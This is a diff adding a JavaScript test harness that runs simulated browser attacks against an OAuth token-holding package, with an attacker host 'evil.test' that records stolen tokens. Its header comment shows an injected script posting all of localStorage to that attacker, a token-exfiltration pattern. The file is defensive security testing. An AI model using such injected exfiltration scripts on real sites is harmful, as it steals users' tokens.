@@ -1,0 +1,200 @@
+// The rig: an app that uses the packed package, its authorization server, its API, and an attacker, on four hosts with TLS.
+//
+//   https://app.rig.test   the app         (tests/browser's pages and holders, from the packed package)
+//   https://as.rig.test    the real authorization server
+//   https://api.rig.test   the API         (all three are one site, as in many a deployment)
+//   https://evil.test      the attacker, with any other host: another site, which records whatever arrives
+//
+// How to write an attack, in a file `tests/attacks/<subject>.test.mjs`:
+//
+//   import { attack } from "./support/attack.mjs";
+//
+//   attack(
+//     { id: "T1", threat: "S1", title: "storage sweep finds no token (STORE-1)", when: ["late", "early"], outcome: "stopped" },
+//     async (rig, { mode, when }) => {
+//       const page = await rig.signedInWith(sweep, { deep: true });
+//       await rig.arrived(page);
+//       return rig.verdict("access token", "refresh token");
+//     },
+//   );
+//
+//   /** Runs in the page: the attacker's tools come first (scripts/evil.mjs), then what the test gives. */
+//   async function sweep(evil, { deep }) {
+//     await evil.post(Object.entries(localStorage));
+//   }
+//
+// `outcome` is a word for all ways of running, or an object by `mode` or `"mode, when"`. What `work` returns is "stopped",
+// "works" or "limited", or `[word, note]` with a few words that go into docs/security/results.md: nothing in a note may
+// differ from run to run. A `title` with ids of requirements at its end counts for docs/conformance.md.
+//
+// The rig's options are attack()'s `rig`, as an object or a function of `{ mode, when }` (see `startRig`). `share: "name"`
+// lets attacks of a file that leave it signed in use one rig: each begins with `rig.secrets()` as they are then, and
+// `rig.sinceNow()` makes the attacker forget what it has.
+
+import { startAuthorizationServer } from "../../../www/server/authorization-server.mjs";
+import { startResourceServer } from "../../../www/server/resource-server.mjs";
+import { startAppServer } from "../../browser/support/app-server.mjs";
+import { browser } from "../../browser/support/browser.mjs";
+import { signIn } from "../../browser/support/sign-in.mjs";
+import { scope } from "../../browser/support/stage.mjs";
+import { makeEvil } from "../scripts/evil.mjs";
+import { brokenFiles } from "./broken.mjs";
+import { startEvil } from "./evil.mjs";
+import { startFront } from "./front.mjs";
+import { request } from "./outside.mjs";
+import { scan, summaryOf } from "./scanner.mjs";
+import { followSecrets } from "./secrets.mjs";
+
+const hosts = { app: "app.rig.test", as: "as.rig.test", api: "api.rig.test", evil: "evil.test" };
+
+/**
+ * Starts a rig for test `t`, which takes it down. `as` and `api` have options of the authorization server and of the API,
+ * `config` overrides members of the holder's configuration or is a function of the rig that answers them, `headers` go
+ * with every answer of the app's origin, `policy` is its Content-Security-Policy (none: a script is in), `context` has
+ * options of the browser's profile. What else is given goes to the app's server.
+ */
+export async function startRig(t, options = {}) {
+  const { mode = "shared", when = "late", as: asOptions, api: apiOptions, config = {}, context: profile, ...more } = options;
+  const front = await startFront();
+  const origins = Object.fromEntries(Object.entries(hosts).map(([name, host]) => [name, front.originOf(host)]));
+  const as = await startAuthorizationServer({ accessTokenTtl: 600, publicOrigin: origins.as, ...asOptions });
+  // It stands behind the front, which says by what name it was called.
+  as.provider.proxy = true;
+  const api = await startResourceServer({ authorizationServer: as, publicOrigin: origins.api, origins: [origins.app], ...apiOptions });
+  const shown = { mode, holder: "/holder.js", config: "null", policy: "", files: {}, ...more };
+  Object.assign(shown.files, await brokenFiles(mode));
+  const app = await startAppServer(shown);
+  const evil = await startEvil();
+  const behind = (port) => `http://127.0.0.1:${port}`;
+  Object.assign(front.routes, { [hosts.app]: app.origin, [hosts.as]: as.origin, [hosts.api]: behind(api.port), "*": behind(evil.port) });
+  const context = await (await browser()).newContext(profile);
+  t.after(async () => {
+    // The browser may be gone already, where the rig was the whole file's.
+    await context.close().catch(() => {});
+    await front.close();
+    await Promise.all([app, as, api, evil].map((one) => one.close()));
+  });
+  as.allow({
+    redirectUris: [`${origins.app}/callback`],
+    postLogoutRedirectUris: [`${origins.app}/bye`],
+    origins: [origins.app],
+  });
+  const rig = new Rig({ mode, when, front, origins, as, api, evil, context, shown });
+  rig.configure(typeof config === "function" ? config(rig) : config);
+  return rig;
+}
+
+class Rig {
+  #followed;
+
+  constructor(parts) {
+    Object.assign(this, parts);
+    this.#followed = followSecrets(this.as.provider);
+    this.app = { origin: this.origins.app };
+    this.console = [];
+    this.context.on("console", (message) => this.console.push(message.text()));
+    this.context.on("weberror", (event) => this.console.push(String(event.error().stack)));
+  }
+
+  /** The configuration that the holder's file has from now on. */
+  configure(overrides) {
+    const config = {
+      issuer: this.as.issuer,
+      clientId: "tokenkeep-demo",
+      redirectUri: `${this.origins.app}/callback`,
+      scope,
+      resourceServers: [`${this.origins.api}/v1/`],
+      // A busy machine must not run into a limit that is not the subject.
+      requestTimeout: 60_000,
+      queueTimeout: 60_000,
+      ...overrides,
+    };
+    this.shown.config = JSON.stringify(config);
+  }
+
+  /** The URL of the API's `/v1/<path>`. */
+  v1(path) {
+    return `${this.origins.api}/v1/${path}`;
+  }
+
+  /** A new tab with a page of the app's origin; `/bare.html` is one without the app. */
+  async open(path = "/") {
+    const page = await this.context.newPage();
+    await page.goto(this.origins.app + path);
+    return page;
+  }
+
+  /** A new tab of the app, signed in through the pages of the authorization server. */
+  async signedIn() {
+    const page = await this.open();
+    const session = await signIn(page);
+    if (!session) throw new Error("signed in, and no session");
+    return page;
+  }
+
+  /** Has `script(evil, given)` run in every document of the app's origin from now on, before anything else. */
+  plant(script, given) {
+    const source = `if (location.origin === ${JSON.stringify(this.origins.app)}) { ${this.#source(script, given)} }`;
+    return this.context.addInitScript({ content: source });
+  }
+
+  /** Runs `script(evil, given)` in `page` now; resolves to what it returns, which must be plain data. */
+  inject(page, script, given) {
+    return page.evaluate(this.#source(script, given));
+  }
+
+  /** A page that is signed in, in which the script ran at the rig's time: early or late. */
+  async signedInWith(script, given) {
+    if (this.when === "early") await this.plant(script, given);
+    const page = await this.signedIn();
+    if (this.when !== "early") await this.inject(page, script, given);
+    return page;
+  }
+
+  #source(script, given) {
+    const evil = `(globalThis.evil ??= (${makeEvil})(${JSON.stringify(this.origins.evil)}))`;
+    return `(${script})(${evil}, ${JSON.stringify(given) ?? "undefined"})`;
+  }
+
+  /** Resolves when all that scripts in `page` posted so far has reached the attacker. */
+  arrived(page) {
+    return page.evaluate(() => globalThis.evil?.settled().then(() => {}));
+  }
+
+  /** Every canary so far, as `{ name, value }`: access, refresh and ID tokens, codes, verifiers, and what was added. */
+  secrets(...names) {
+    const all = this.#followed.secrets;
+    return names.length ? all.filter(({ name }) => names.includes(name)) : [...all];
+  }
+
+  addSecret(name, value) {
+    this.#followed.add(name, value);
+  }
+
+  /** What `text` has of the secrets, or of those with the given names, in short. */
+  found(text, ...names) {
+    return summaryOf(scan(text, this.secrets(...names)));
+  }
+
+  /** What reached the attacker of the secrets, or of those with the given names, in short. */
+  stolen(...names) {
+    return this.found(this.evil.text(), ...names);
+  }
+
+  /** "stopped" if no secret reached the attacker, or `["works", what did]`. Without a secret there was no attack. */
+  verdict(...names) {
+    if (this.secrets(...names).length === 0) throw new Error("no such secret exists: nothing was at stake");
+    const kinds = new Set(this.stolen(...names).map((one) => one.replace(/ \(.*/, "")));
+    return kinds.size === 0 ? "stopped" : ["works", [...kinds].sort().join(", ")];
+  }
+
+  /** The attacker forgets what it has. */
+  sinceNow() {
+    this.evil.requests.length = 0;
+  }
+
+  /** A request from the attacker's own machine: no browser, no CORS. Resolves to `{ status, headers, text }`. */
+  fromOutside(url, init) {
+    return request(this.front.port, url, init);
+  }
+}
